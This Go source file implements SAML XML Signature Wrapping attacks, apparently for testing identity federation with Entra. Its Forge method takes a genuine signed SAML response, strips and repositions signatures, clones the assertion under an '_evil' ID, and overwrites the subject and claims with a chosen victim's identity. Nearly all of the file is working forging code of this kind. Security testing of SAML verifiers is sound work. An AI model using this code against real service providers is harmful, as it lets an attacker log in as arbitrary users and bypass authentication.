package entra

import (
	"errors"
	"strings"

	"github.com/beevik/etree"
)

// SAMLAttack is what somebody does who holds one genuine answer, for themselves, and no key: it rearranges the document
// so that a careless application verifies the one assertion and reads the other.
type SAMLAttack struct {
	Name string
	Does string // one sentence for people

	signed signedPart
	forge  func(*forgery)
}

// signedPart is what of the document must be signed for an attack; the zero value leaves it open.
type signedPart int

const (
	_ signedPart = iota
	signedResponse
	signedAssertion
)

// ErrUnsuitable says that an attack needs another part of the answer to be signed.
var ErrUnsuitable = errors.New("this answer is not signed in the way that the attack needs")

// SAMLAttacks returns the eight ways of signature wrapping of Somorovsky and others, "On Breaking SAML: Be Whoever You
// Want to Be" (USENIX Security 2012), by the numbers under which testing tools know them, and their relatives.
func SAMLAttacks() []SAMLAttack {
	return append(wrappingAttacks[:len(wrappingAttacks):len(wrappingAttacks)], relatedAttacks...)
}

// Forge makes a document that claims to be about victim out of a genuine one.
func (k SAMLAttack) Forge(genuine []byte, victim Person) ([]byte, error) {
	doc := etree.NewDocument()
	if err := doc.ReadFromBytes(genuine); err != nil {
		return nil, err
	}
	if doc.Root() == nil {
		return nil, ErrUnsuitable
	}
	f := &forgery{response: doc.Root(), assertion: doc.Root().SelectElement("Assertion"), victim: victim}
	if f.assertion == nil || !f.suits(k.signed) {
		return nil, ErrUnsuitable
	}
	if k.signed == signedAssertion {
		// Whatever signs the whole would notice.
		f.detach(f.response)
	}
	k.forge(f)
	doc.SetRoot(f.response)
	return doc.WriteToBytes()
}

// forgery is a document that is being rearranged.
type forgery struct {
	response, assertion *etree.Element
	victim              Person
}

func (f *forgery) suits(signed signedPart) bool {
	switch signed {
	case signedResponse:
		return f.response.SelectElement("Signature") != nil
	case signedAssertion:
		return f.assertion.SelectElement("Signature") != nil
	}
	return true
}

// detach takes the signature out of e and returns it; nil where there is none.
func (f *forgery) detach(e *etree.Element) *etree.Element {
	signature := e.SelectElement("Signature")
	if signature != nil {
		e.RemoveChild(signature)
	}
	return signature
}

// evil is an unsigned copy of the assertion under another ID, about the victim.
func (f *forgery) evil() *etree.Element {
	evil := f.assertion.Copy()
	f.detach(evil)
	evil.CreateAttr("ID", "_evil"+strings.TrimPrefix(evil.SelectAttrValue("ID", ""), "_"))
	f.impersonate(evil)
	return evil
}

// impersonate replaces every trace of the person by the victim's.
func (f *forgery) impersonate(assertion *etree.Element) {
	if id := assertion.FindElement("./Subject/NameID"); id != nil {
		id.SetText(f.victim.UserPrincipalName)
	}
	for name, value := range map[string]string{
		claimObjectID: f.victim.ObjectID, claimName: f.victim.UserPrincipalName, claimDisplayName: f.victim.DisplayName, claimMail: f.victim.Mail,
	} {
		if claim := claimOf(assertion, name); claim != nil {
			claim.SelectElement("AttributeValue").SetText(value)
		}
	}
}

// evilResponse is a copy of the whole response under another ID with the evil assertion, still carrying the genuine
// signature, and the genuine response without it.
func (f *forgery) evilResponse() (evil, genuine *etree.Element) {
	evil, genuine = f.response.Copy(), f.response.Copy()
	f.detach(genuine)
	evil.CreateAttr("ID", "_evil"+strings.TrimPrefix(evil.SelectAttrValue("ID", ""), "_"))
	assertion := evil.SelectElement("Assertion")
	f.detach(assertion)
	f.impersonate(assertion)
	return evil, genuine
}

// before puts e in front of the genuine assertion.
func (f *forgery) before(e *etree.Element) { f.response.InsertChildAt(f.assertion.Index(), e) }
